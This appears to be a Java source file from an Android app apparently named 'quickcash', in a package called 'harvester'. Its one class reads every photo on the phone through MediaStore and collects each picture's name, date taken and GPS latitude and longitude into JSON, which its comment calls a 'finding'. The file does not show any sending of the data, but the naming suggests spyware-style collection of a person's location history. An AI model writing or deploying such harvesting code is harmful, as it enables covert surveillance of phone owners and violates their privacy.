package com.example.quickcash.harvester;

import android.content.Context;
import android.database.Cursor;
import android.provider.MediaStore;
import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/** Finding, photos: where and when each picture on the phone was taken. */
final class PhotoListReader {
    private PhotoListReader() {}

    static JSONArray read(Context context) throws JSONException {
        JSONArray photos = new JSONArray();
        String[] columns = {"_display_name", "datetaken", "latitude", "longitude"};
        Cursor rows =
                context.getContentResolver()
                        .query(
                                MediaStore.Images.Media.EXTERNAL_CONTENT_URI,
                                columns,
                                null,
                                null,
                                null);
        while (rows.moveToNext()) {
            JSONObject photo = new JSONObject();
            photo.put("name", rows.getString(0));
            photo.put("taken", rows.getLong(1));
            photo.put("lat", rows.getDouble(2));
            photo.put("lon", rows.getDouble(3));
            photos.put(photo);
        }
        rows.close();
        return photos;
    }
}
